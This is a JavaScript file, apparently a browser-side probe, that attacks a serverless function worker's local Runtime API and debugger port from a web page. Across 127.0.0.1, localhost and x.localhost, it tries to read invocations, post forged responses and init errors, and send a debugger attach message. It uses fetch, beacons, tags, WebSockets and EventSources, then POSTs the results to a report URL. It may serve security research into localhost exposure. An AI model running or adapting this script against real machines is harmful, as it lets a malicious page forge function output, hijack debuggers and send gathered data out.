// What a page tries against the Runtime API of a function's worker and the port of its debugger. `config` is set before.
const {ports, invocation, report} = config;
const results = {};
const attach = JSON.stringify({seq: 1, type: "request", command: "attach", arguments: {}});
const message = `Content-Length: ${attach.length}\r\n\r\n${attach}`;

function attempt(name, action) {
  const silence = new Promise(done => setTimeout(() => done("silence"), 8000));
  const outcome = Promise.race([Promise.resolve().then(action), silence]).catch(error => `failed: ${error.name}`);
  return outcome.then(text => results[name] = text);
}
async function told(answer) {
  if (answer.type === "opaque") return `opaque ${(await answer.text()).length}`;
  return `${answer.status} ${(await answer.text()).slice(0, 200)}`;
}
function element(kind, properties) {
  return new Promise(done => {
    const node = Object.assign(document.createElement(kind), properties);
    node.onload = () => done("loaded");
    node.onerror = () => done("error");
    document.body.append(node);
  });
}
function opened(source) {
  return new Promise(done => {
    source.onopen = () => done("open");
    source.onerror = () => { source.close(); done("error"); };
  });
}

async function attack() {
  const attempts = [];
  for (const [what, port] of Object.entries(ports)) {
    for (const host of ["127.0.0.1", "localhost", "x.localhost"]) {
      const runtime = `http://${host}:${port}/2018-06-01/runtime`;
      const add = (name, action) => attempts.push(attempt(`${what}, ${host}: ${name}`, action));
      add("cors next", () => fetch(`${runtime}/invocation/next`).then(told));
      add("no-cors next", () => fetch(`${runtime}/invocation/next`, {mode: "no-cors"}).then(told));
      add("cors response", () => fetch(`${runtime}/invocation/${invocation}/response`,
        {method: "POST", body: '"forged"'}).then(told));
      add("no-cors response", () => fetch(`${runtime}/invocation/${invocation}/response`,
        {method: "POST", mode: "no-cors", body: '"forged"'}).then(told));
      add("beacon response", () => String(navigator.sendBeacon(`${runtime}/invocation/${invocation}/response`, '"forged"')));
      add("no-cors init error", () => fetch(`${runtime}/init/error`, {method: "POST", mode: "no-cors", body: "{}"}).then(told));
      add("no-cors debugger's message", () => fetch(`http://${host}:${port}/`,
        {method: "POST", mode: "no-cors", body: message}).then(told));
      add("img", () => element("img", {src: `${runtime}/invocation/next`}));
      add("script", () => element("script", {src: `${runtime}/invocation/next`}));
      add("socket", () => opened(new WebSocket(`ws://${host}:${port}/`)));
      add("event source", () => opened(new EventSource(`${runtime}/invocation/next`)));
    }
  }
  await Promise.all(attempts);
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
attack();
